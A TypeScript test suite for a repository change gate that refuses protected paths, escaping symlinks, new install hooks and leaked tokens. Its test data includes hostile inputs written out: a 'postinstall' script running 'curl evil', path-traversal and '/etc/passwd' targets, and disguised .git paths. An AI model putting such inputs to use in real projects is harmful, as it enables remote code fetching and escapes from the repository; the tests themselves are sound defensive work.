import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { basePathsToRead, type GateFile, judgeChange } from '../../src/domain/policy/gate.ts';

const file = (path: string, content: string | null = 'text\n', mode = '100644'): GateFile => ({
  path,
  mode,
  content,
  encoding: 'utf-8',
});

const judge = (
  files: readonly GateFile[],
  base: Readonly<Record<string, string | null>> = {},
  allow: readonly string[] = [],
) => judgeChange(files, new Map(Object.entries(base)), allow);

describe('paths no command lets pass', () => {
  test.each([
    '.github/workflows/ci.yml',
    '.GitHub/Workflows/ci.yml',
    '.github/workflows',
    '.github/actions/x/action.yml',
    '.github/ptc.yml',
    '.github/PTC.yaml',
    'CODEOWNERS',
    'docs/CodeOwners',
    '.gitmodules',
    '.git/config',
    'sub/.GIT/hooks/pre-commit',
    'sub/.g\u200cit/config',
    'git~1/config',
    'sub/.git::$INDEX_ALLOCATION/config',
    'sub/.git./config',
    '../outside',
    'a/../../b',
    '/etc/passwd',
    'C:/windows',
    'a\\b',
    'a//b',
    'a\u0000b',
    'a\nb',
  ])('%j', (path) => {
    expect(judge([file(path)], {}, [path])).toEqual([expect.objectContaining({ path, allowable: false })]);
  });
});

test('an ordinary change passes', () => {
  expect(judge([file('src/a.ts'), file('test/a.test.ts'), file('old.ts', null)])).toEqual([]);
});

test.each(['AGENTS.md', 'sub/claude.md', '.npmrc'])('%s passes only when it was allowed', (path) => {
  expect(judge([file(path)])).toEqual([expect.objectContaining({ path, allowable: true })]);
  expect(judge([file(path)], {}, [path])).toEqual([]);
});

describe('links', () => {
  test('inside the repository are asked about', () => {
    expect(judge([file('docs/a', '../src/a', '120000')])).toEqual([
      expect.objectContaining({ allowable: true }),
    ]);
  });
  test.each(['/etc/passwd', '../../x', '../.git/config', '../.git/../x', 'C:\\x'])(
    'to %s never pass',
    (target) => {
      expect(judge([file('docs/a', target, '120000')], {}, ['docs/a'])).toEqual([
        expect.objectContaining({ allowable: false }),
      ]);
    },
  );
});

describe('package manifests', () => {
  const manifest = (fields: object): string => JSON.stringify(fields);
  test('a new lifecycle script is asked about, a new ordinary one is not', () => {
    const before = manifest({ scripts: { test: 'x' } });
    const after = manifest({ scripts: { test: 'y', lint: 'z' } });
    expect(judge([file('package.json', after)], { 'package.json': before })).toEqual([]);
    const hooked = manifest({ scripts: { test: 'x', postinstall: 'curl evil' } });
    expect(judge([file('package.json', hooked)], { 'package.json': before })).toEqual([
      expect.objectContaining({ path: 'package.json', allowable: true }),
    ]);
  });
  test('changed dependencies beside an unchanged lock file are asked about', () => {
    const after = manifest({ dependencies: { left: '1' } });
    const base = { 'package.json': manifest({}), 'package-lock.json': '{}' };
    expect(judge([file('package.json', after)], base)).toHaveLength(1);
    expect(judge([file('package.json', after), file('package-lock.json', '{}')], base)).toEqual([]);
  });
  test('one that cannot be read is asked about, never waved through', () => {
    expect(judge([file('package.json', '{"scripts": 5')])).toHaveLength(1);
    expect(judge([file('package.json', '{"scripts": 5}')])).toHaveLength(1);
  });
  test('a lock file alone is asked about', () => {
    expect(judge([file('yarn.lock')])).toHaveLength(1);
  });
});

describe('secrets', () => {
  const token = `ghp_${'a1B2'.repeat(9)}`;
  test('a new one is refused without being repeated', () => {
    const refusals = judge([file('src/a.ts', `const t = '${token}';`)]);
    expect(refusals).toHaveLength(1);
    expect(JSON.stringify(refusals)).not.toContain(token);
  });
  test('one that stood on the base already is not new', () => {
    const files = [file('src/a.ts', `const t = '${token}'; // moved`)];
    expect(basePathsToRead(files)).toEqual(['src/a.ts']);
    expect(judge(files, { 'src/a.ts': `x = '${token}'` })).toEqual([]);
  });
});

test('two paths that differ only in case are refused', () => {
  expect(judge([file('src/A.ts'), file('src/a.ts')])).toHaveLength(1);
});

test('a change that is too large is refused', () => {
  expect(judge([file('big', 'x'.repeat(1024 * 1024 + 1))])).toHaveLength(1);
  expect(judge(Array.from({ length: 301 }, (_, index) => file(`f${index}`)))).toHaveLength(1);
});

test('whatever the path, a .git folder or a way out is never allowed', () => {
  const part = fc.constantFrom('.git', '.GIT', '..', 'src', 'a.ts', '.github', 'workflows', '');
  fc.assert(
    fc.property(fc.array(part, { minLength: 1, maxLength: 5 }), (parts) => {
      const path = parts.join('/');
      const bad = parts.some((one) => one === '..' || one === '' || one.toLowerCase() === '.git');
      if (bad) expect(judge([file(path)], {}, [path])).not.toEqual([]);
    }),
  );
});
